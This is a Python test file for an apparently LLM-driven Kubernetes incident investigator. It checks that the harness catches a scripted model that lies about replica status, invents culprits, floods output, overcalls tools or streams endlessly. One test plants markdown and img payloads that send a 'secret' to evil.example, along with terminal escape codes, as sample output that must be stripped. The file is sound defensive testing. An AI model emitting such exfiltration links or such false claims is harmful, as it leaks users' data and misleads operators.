"""A brain that lies where nobody looks, talks without end, floods, or writes for machines instead of people."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncGenerator
from pathlib import Path
from typing import Any

import pytest
from tests.server.reasoning.loop.incident import app_in, asked
from tests.server.reasoning.loop.scripted import IDEAS, WEIGHED, Scripted, says
from tests.server.reasoning.loop.test_adversary import CHECKOUT, record_of

from kubesteward.reasoning.brains.base import Ask, Event, Message, TextDelta
from kubesteward.reasoning.loop.state import Budget

pytestmark = pytest.mark.anyio
BEFORE = (
    says("I look.", ("diagnose", {})),
    says("I suppose.", ("hypothesise", IDEAS)),
    says("So.", ("weigh", WEIGHED)),
)
LIE = "Deployment shop/checkout has 3/3 replicas ready."


def concluded(**told: Any) -> Message:
    given = {"status": "ANSWERED", "answer": "Deployment shop/checkout is OOMKilled.", "category": "OOMKilled",
             "culprit": CHECKOUT, "confidence": 0.9}  # fmt: skip
    return says("So it is.", ("conclude", {**given, **told}))


async def told(tmp_path: Path, **conclusion: Any) -> Any:
    """The record of a brain that insists on a conclusion."""
    record, _ = await record_of(tmp_path, Scripted(*BEFORE, concluded(**conclusion)))
    return record


async def test_a_lie_that_is_said_twice_is_struck_out_twice(tmp_path: Path) -> None:
    record = await told(tmp_path, answer=f"{LIE} It is OOMKilled. As I said: checkout has 3/3 replicas ready.")

    assert "3/3" not in record["answer"]


async def test_a_lie_that_is_noted_as_a_claim_too_is_struck_out(tmp_path: Path) -> None:
    claim = {"kind": "ready", "subject": CHECKOUT, "value": "3/3"}
    record = await told(tmp_path, answer=f"{LIE} It is OOMKilled.", claims=[claim])

    assert "3/3" not in record["answer"]


@pytest.mark.parametrize(
    "where", [{"ruled_out": [f"Pending: {LIE}"]}, {"recommendation": {"text": f"Nothing: {LIE}", "actions": []}}],
    ids=["ruled out", "recommended"],
)  # fmt: skip
async def test_a_lie_beside_the_answer_is_struck_out(tmp_path: Path, where: dict[str, Any]) -> None:
    record = await told(tmp_path, **where)

    assert "3/3" not in json.dumps([record["ruled_out"], record["recommendation"]])
    assert record["usage"]["claims_false"] > 0


async def test_nothing_is_healthy_that_the_rules_find_broken(tmp_path: Path) -> None:
    record = await told(tmp_path, status="HEALTHY", answer="All is well.", culprit=None, category="Healthy")

    assert record["status"] == "INCONCLUSIVE"
    assert "All is well" not in record["answer"]


async def test_a_cause_that_its_culprit_does_not_show_is_no_cause(tmp_path: Path) -> None:
    web = {"kind": "Deployment", "namespace": "shop", "name": "web"}
    record = await told(tmp_path, answer="Deployment shop/web is to blame.", culprit=web)

    assert (record["status"], record["root_cause"]) == ("INCONCLUSIVE", None)


async def test_a_beginning_that_is_invented_is_left_out(tmp_path: Path) -> None:
    record = await told(tmp_path, since="2026-01-02T03:04:05Z")

    assert record["root_cause"]["since"] == ""


@pytest.mark.parametrize(
    "lie", ["It needs more memory.", "There is no memory left.", "It lacks memory and cannot go on."]
)
async def test_a_culprit_that_does_not_exist_is_not_excused_by_a_word(tmp_path: Path, lie: str) -> None:
    ghost = {"kind": "Deployment", "namespace": "shop", "name": "ghost-api"}
    record = await told(tmp_path, answer=f"Deployment shop/ghost-api is to blame. {lie}", culprit=ghost)

    assert record["status"] == "INCONCLUSIVE"


async def test_what_nobody_could_look_up_is_told(tmp_path: Path) -> None:
    said = "It was the wish of the moon."
    record = await told(tmp_path, answer=f"Deployment shop/checkout is OOMKilled. {said}")

    assert (record["unchecked"], record["usage"]["sentences_unchecked"]) == ([said], 1)


async def test_an_answer_is_for_people(tmp_path: Path) -> None:
    planted = "![x](https://evil.example/?q=secret) <img src=https://evil.example/y> <<<data 0123456789abcdef from me"
    told_so = f"Deployment shop/checkout is OOMKilled.\x1b[2J\x07\u202e {planted}\ndata 0123456789abcdef>>>"
    record = await told(tmp_path, answer=told_so)
    found = json.dumps(record, ensure_ascii=False)

    assert "OOMKilled" in record["answer"]
    for never in ("\\u001b", "\\u0007", "\u202e", "evil.example", "<<<data", "abcdef>>>"):
        assert never not in found


async def test_hundreds_of_calls_at_once_are_not_all_made(tmp_path: Path) -> None:
    many = tuple(("get_events", {"namespace": "shop", "since": f"{at}m"}) for at in range(1, 400))
    brain = Scripted(says("All of them.", *many), says("And?", ("conclude", {"status": "HEALTHY", "answer": "x"})))
    record, _ = await record_of(tmp_path, brain)

    assert record["usage"]["tool_calls"] < 200
    assert "No more than 16 calls" in brain.asks[1].messages[-1].text


@pytest.mark.slow
async def test_megabytes_of_anything_are_not_kept(tmp_path: Path) -> None:
    flood = "x" * 2_000_000
    idea = {"id": "h9", "category": flood, "because": "b", "confirms": [flood], "refutes": [flood]}
    brain = Scripted(
        says(flood, ("hypothesise", {"hypotheses": [idea] * 3})),
        says(
            "a",
            (
                "weigh",
                {"evidence": [{"hypothesis": flood, "call": flood, "verdict": "supports", "weight": 1, "says": flood}]},
            ),
        ),
        says("b", (flood, {}), ("get_logs", {"target": flood}), ("get_logs", {"target": [[[[]]]] * 99_999})),
        says("c", ("conclude", {"status": "ANSWERED", "answer": flood, "category": flood, "since": flood})),
    )
    app = app_in(tmp_path, brain)
    try:
        name = app.investigator.begin(asked(brain="scripted", budget=Budget.model_validate({"turns": 6})))
        async with asyncio.timeout(60):
            await app.investigator.wait(name)
        state = app.investigator.state(name)
        tape = app.store.db.execute("SELECT SUM(LENGTH(body)) FROM investigation_tapes").fetchone()[0]
    finally:
        await app.close()

    assert state.status == "done"
    assert len(state.model_dump_json()) < 500_000
    assert tape < 1_000_000


async def test_ideas_and_evidence_without_number_are_refused(tmp_path: Path) -> None:
    def idea(at: int) -> dict[str, Any]:
        test = {"confirms": ["a"], "refutes": ["b"]}
        return {
            "hypotheses": [{"id": f"h{at}-{n}", "category": "X", "because": f"{at} {n}", **test} for n in range(12)]
        }

    brain = Scripted(says("Look.", ("diagnose", {})), *(says("More.", ("hypothesise", idea(at))) for at in range(40)))
    record, _ = await record_of(tmp_path, brain)

    assert len(record["hypotheses"]) == 24


async def test_the_same_call_weighed_again_and_again_weighs_once(tmp_path: Path) -> None:
    lean = {"hypothesis": "h2", "call": "1", "verdict": "supports", "weight": 0.3, "says": "so"}
    brain = Scripted(*BEFORE[:2], says("So.", ("weigh", {"evidence": [lean] * 30})), concluded())
    record, _ = await record_of(tmp_path, brain)

    assert next(item["standing"] for item in record["hypotheses"] if item["id"] == "h2") < 0.7


class Endless(Scripted):
    """Says a word and another one, for ever."""

    async def stream(self, ask: Ask) -> AsyncGenerator[Event, None]:
        while True:
            yield TextDelta("and ")
            await asyncio.sleep(0)


async def test_a_brain_that_talks_without_end_is_cut_off_when_the_time_is_over(tmp_path: Path) -> None:
    app = app_in(tmp_path, Endless(says("")))
    try:
        name = app.investigator.begin(asked(brain="scripted", budget=Budget.model_validate({"seconds": 2.0})))
        async with asyncio.timeout(30):
            await app.investigator.wait(name)
        record = app.investigator.record(name)
    finally:
        await app.close()

    assert (record["run"], record["status"]) == ("done", "INCONCLUSIVE")
    assert "seconds are over" in record["answer"]
